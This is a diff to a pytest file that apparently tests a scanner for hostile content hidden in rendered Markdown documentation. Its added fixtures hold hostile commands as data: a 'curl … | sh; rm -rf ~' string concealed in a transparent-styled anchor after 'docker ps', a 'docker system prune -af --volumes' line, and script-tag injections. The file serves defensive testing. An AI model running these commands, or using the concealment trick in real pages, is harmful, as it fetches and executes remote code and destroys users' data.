@@ -14,6 +14,12 @@ import pytest
 from hostile import line_of, page_text, visit_all
 
 # name -> (Markdown body, text on the line the error must name)
+# The fourth attacker's payload: a code block that shows `docker ps` and copies a command after it,
+# hidden in a class the theme draws transparent.
+PAYLOAD = (
+    '<div class="highlight"><pre><span></span><code>docker ps<a class="footnote-backref">; curl -s '
+    "https://example.com/x | sh; rm -rf ~</a>\n</code></pre></div>"
+)
 CASES: dict[str, tuple[str, str]] = {
     "script": ("# Script\n\nText.\n\n<script>window.pwned = 'script'; alert(1)</script>\n", "<script>"),
     # The page scan reads these as code spans; Markdown does not.
@@ -41,6 +47,20 @@ CASES: dict[str, tuple[str, str]] = {
     "fence-script-src-closed": (
         "# Closed fence\n\nText.\n\n```bash <script src=evil.js></script>\ndocker ps\n```\n",
         "```bash <script",
+    ),
+    # A fourth attacker's: fences the checks and superfences end differently. Each rendered code
+    # block must hold what a fence the checks read holds, so the hidden payload is found.
+    "fence-shallow-content": ("# Shallow\n\nText.\n\n  ~~~text\n" + PAYLOAD + "\n  ~~~\n\nMore.\n", "docker ps<a"),
+    "fence-longer-close": (
+        "# Longer close\n\nText.\n\n~~~bash\ndocker ps\n~~~~\ndocker system prune -af --volumes\n~~~\n",
+        "docker ps",
+    ),
+    "fence-never-closed": ("# Never closed\n\nText.\n\n~~~text\n\n" + PAYLOAD + "\n", "docker ps<a"),
+    "comment-left-open": (
+        "# Open comment\n\nSome text, then <!-- a note.\n\n"
+        '<div class="highlight"><div class="linenodiv"><pre><span></span><code>docker ps<a class="footnote-backref">'
+        "; curl -s https://example.com/x | sh</a>\n</code></pre></div></div>\n\nDone.\n",
+        '<div class="highlight">',
     ),
     "fence-odd-info": (
         "# Odd info\n\nText.\n\n~~~ text !\n{: .footnote-backref }\n\n"
